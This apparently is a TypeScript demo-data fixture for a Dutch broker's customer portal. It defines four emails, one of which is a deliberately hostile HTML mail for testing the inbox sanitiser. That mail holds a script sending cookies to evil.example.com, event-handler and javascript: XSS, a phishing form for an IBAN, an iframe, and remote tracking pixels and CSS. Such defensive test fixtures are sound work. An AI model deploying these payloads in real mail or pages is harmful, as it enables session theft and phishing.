// Jan's mails. One carries every trick the inbox must neutralise (script, event handlers, a
// javascript: link, a remote tracking pixel, a form, an iframe, a remote @import and a CSS url()
// to a remote host) beside ordinary content; the others are ordinary office mails.
import type { DemoCustomer } from '../../../types';
import { isoDaysAgo } from '../../dates';
import { nestedId, type CustomerIds } from '../../ids';
import { documentId } from './documents';
import { mortgageIds } from './mortgages';
import { USERNAME } from './profile';

type Mail = DemoCustomer['mails'][number];

const FROM = 'mark.vandijk@vandijkhypotheken.nl';

/** The hostile mail: each attack sits between harmless paragraphs that must survive. */
export const hostileMailContent = [
  '<style>@import url("https://evil.example.com/track.css"); .intro { color: #00529B; }</style>',
  '<p class="intro">Beste Jan,</p>',
  '<p>Hieronder het doorgestuurde aanbod van de zonnepanelenleverancier waar je naar vroeg.</p>',
  '<script>document.location = "https://evil.example.com/steal?c=" + document.cookie;</script>',
  '<p><img src="x" onerror="alert(\'onerror\')" alt="Afbeelding zonnepanelen"></p>',
  '<p><a href="#" onclick="alert(\'onclick\'); return false;">Bekijk het aanbod</a></p>',
  '<p><a href="javascript:alert(\'javascript-link\')">Klik hier voor de voorwaarden</a></p>',
  '<img src="https://tracker.example.com/pixel.gif" width="1" height="1" alt="">',
  '<form action="https://evil.example.com/phish" method="post"><p>Bevestig je IBAN:</p><input type="text" name="iban" value=""><button type="submit">Verstuur</button></form>',
  '<iframe src="https://evil.example.com/frame.html" width="400" height="300"></iframe>',
  '<div style="background-image: url(\'https://tracker.example.com/background.png\'); padding: 8px;">Actie: 12 panelen voor € 5.995 inclusief montage.</div>',
  '<ul><li>Opbrengst circa 4.800 kWh per jaar</li><li>Terugverdientijd ongeveer 7 jaar</li></ul>',
  '<p>Meer informatie vind je op <a href="https://www.milieucentraal.nl/energie-besparen/zonnepanelen/">Milieu Centraal</a>.</p>',
  '<p>Met vriendelijke groet,<br>Mark van Dijk</p>',
].join('\n');

export function mails(ids: CustomerIds): Mail[] {
  const first = ids.mails;
  const m = mortgageIds(ids);
  const mail = (fields: Omit<Mail, 'type' | 'visible_for_customer' | 'download_link' | 'created_by' | 'updated_at'> & Partial<Pick<Mail, 'created_by'>>): Mail => ({
    type: 'email',
    created_by: 'Mark van Dijk',
    download_link: null,
    visible_for_customer: true,
    updated_at: fields.created_at,
    ...fields,
  });
  return [
    mail({
      parent_class: 'mortgage',
      parent_id: m.application,
      name: 'Rentevoorstel Rabobank',
      seen_by_customer: false,
      created_at: isoDaysAgo(2, '16:02'),
      email: {
        subject: 'Je rentevoorstel van de Rabobank',
        from: FROM,
        to: USERNAME,
        cc: 'eva.devries@example.nl',
        bcc: 'dossier@vandijkhypotheken.nl',
        date: isoDaysAgo(2, '16:01'),
        content: [
          '<p><img src="cid:logo-vandijk.png" alt="Van Dijk Hypotheken &amp; Verzekeringen" width="120" height="40"></p>',
          '<p>Beste Jan en Eva,</p>',
          '<p>Goed nieuws: de Rabobank heeft een rentevoorstel gedaan voor jullie nieuwe woning aan het <strong>Ella Fitzgeraldplein 27</strong>. Je vindt het voorstel in de bijlage.</p>',
          '<table><tr><th>Leningdeel</th><th>Rentevast</th><th>Rente</th></tr><tr><td>Annuïteit € 420.000</td><td>10 jaar</td><td>3,68%</td></tr><tr><td>Lineair € 150.000</td><td>5 jaar</td><td>3,52%</td></tr></table>',
          '<p>Upload jullie de getekende koopovereenkomst nog? Dan kan de aanvraag door.</p>',
          '<p>Hartelijke groet,<br>Mark van Dijk</p>',
        ].join('\n'),
        attachments: [
          { id: nestedId(first, 1), name: 'Rentevoorstel Rabobank.pdf', mime_type: 'application/pdf', inline: false, display_link: `/customer/document/${documentId(ids, 'interestProposal')}` },
          { id: nestedId(first, 2), name: 'logo-vandijk.png', mime_type: 'image/png', inline: true, display_link: `/customer/document/${documentId(ids, 'mailLogo')}` },
        ],
      },
    }),
    mail({
      parent_class: 'customer',
      parent_id: ids.customer,
      name: 'Doorgestuurd: aanbod zonnepanelen',
      seen_by_customer: false,
      created_at: isoDaysAgo(5, '09:47'),
      email: {
        subject: 'Fwd: Jouw persoonlijke aanbod zonnepanelen',
        from: FROM,
        to: USERNAME,
        cc: null,
        bcc: null,
        date: isoDaysAgo(5, '09:46'),
        content: hostileMailContent,
        attachments: [],
      },
    }),
    mail({
      parent_class: 'customer',
      parent_id: ids.customer,
      name: 'Jaaroverzicht verzekeringen',
      created_by: 'Lotte Vermeulen',
      seen_by_customer: true,
      created_at: isoDaysAgo(41, '10:20'),
      email: {
        subject: 'Jouw jaaroverzicht verzekeringen',
        from: 'lotte.vermeulen@vandijkhypotheken.nl',
        to: `${USERNAME}, eva.devries@example.nl`,
        cc: null,
        bcc: null,
        date: isoDaysAgo(41, '10:19'),
        content: '<p>Hoi Jan,</p><p>Je betaalt dit jaar in totaal <strong>€ 2.095</strong> aan premies. In je portaal zie je per verzekering wat je betaalt en waarvoor je verzekerd bent.</p><p>Groet,<br>Lotte Vermeulen</p>',
        attachments: [{ id: nestedId(first + 2, 1), name: 'Polisblad autoverzekering.pdf', mime_type: 'application/pdf', inline: false, display_link: `/customer/document/${documentId(ids, 'carConditions')}` }],
      },
    }),
    mail({
      parent_class: 'customer',
      parent_id: ids.customer,
      name: 'Welkom in je klantportaal',
      seen_by_customer: true,
      created_at: isoDaysAgo(200, '08:00'),
      email: {
        subject: 'Welkom in je klantportaal',
        from: 'portaal@vandijkhypotheken.nl',
        to: USERNAME,
        cc: null,
        bcc: null,
        date: isoDaysAgo(200, '08:00'),
        content: '<h2>Welkom, Jan!</h2><p>In je klantportaal zie je je hypotheken, verzekeringen en documenten op één plek.</p>',
        attachments: [],
      },
    }),
  ];
}
